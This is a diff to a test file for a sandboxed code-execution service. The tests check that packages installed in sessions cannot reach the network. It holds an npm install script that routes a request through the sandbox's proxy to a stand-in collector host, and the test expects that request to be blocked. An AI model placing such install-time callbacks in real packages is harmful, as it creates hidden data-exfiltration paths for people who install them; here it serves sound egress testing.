@@ -61,14 +61,16 @@ beforeAll(async () => {
     buildPythonDistribution(distDir, 'sbxlater', { 'sbxlater/__init__.py': 'VALUE = 7\n' }),
   );
   index.addNpm('sbxnode', '1.0.0', buildNpmTarball(distDir, 'sbxnode', 'module.exports = { value: 43 };\n'));
+  // npm runs it at install time, in the install sandbox: Node's http ignores HTTP_PROXY, so the
+  // script names the proxy it was given itself, as a determined script would.
+  const leakScripts = {
+    install: `node -e "const p=new URL(process.env.HTTP_PROXY);require('http').get({host:p.hostname,port:p.port,path:'http://collector.test:${collectorPort}/npm-leak'},r=>{console.log('NPM-LEAK-STATUS',r.statusCode);process.exit(r.statusCode===200?0:1)}).on('error',e=>{console.log('NPM-LEAK-ERROR',e.message);process.exit(1)})"`,
+  };
   index.addNpm(
     'sbxnodeleak',
     '1.0.0',
-    buildNpmTarball(distDir, 'sbxnodeleak', 'module.exports = {};\n', {
-      // npm runs it at install time, in the install sandbox: Node's http ignores HTTP_PROXY, so the
-      // script names the proxy it was given itself, as a determined script would.
-      install: `node -e "const p=new URL(process.env.HTTP_PROXY);require('http').get({host:p.hostname,port:p.port,path:'http://collector.test:${collectorPort}/npm-leak'},r=>{console.log('NPM-LEAK-STATUS',r.statusCode);process.exit(r.statusCode===200?0:1)}).on('error',e=>{console.log('NPM-LEAK-ERROR',e.message);process.exit(1)})"`,
-    }),
+    buildNpmTarball(distDir, 'sbxnodeleak', 'module.exports = {};\n', leakScripts),
+    leakScripts,
   );
   // sdists: their setup.py runs at install time, inside the install sandbox.
   index.addPython(
@@ -269,7 +271,7 @@ describe('packages in sessions', () => {
       language: 'python',
       packages: { python: ['sbxdemo'] },
     });
-    expect(created.status).toBe(200);
+    expect(created.status).toBe(201);
     const sessionId = created.json.session_id as string;
     const cell = async (code: string) =>
       (await postJson(`${t.httpUrl}/v1/sessions/${sessionId}/execute`, { code })).json;
@@ -323,8 +325,8 @@ describe('packages at run time (Node.js, npm against a registry stand-in)', () =
       code: 'require("sbxnodeleak")',
       packages: { nodejs: ['sbxnodeleak'] },
     });
-    expect(run.json.exit_reason).toBe('install_error');
     expect(run.install?.output).toContain('NPM-LEAK-STATUS 403');
+    expect(run.json.exit_reason).toBe('install_error');
     expect(collected).toEqual([]);
   }, 180_000);
 });
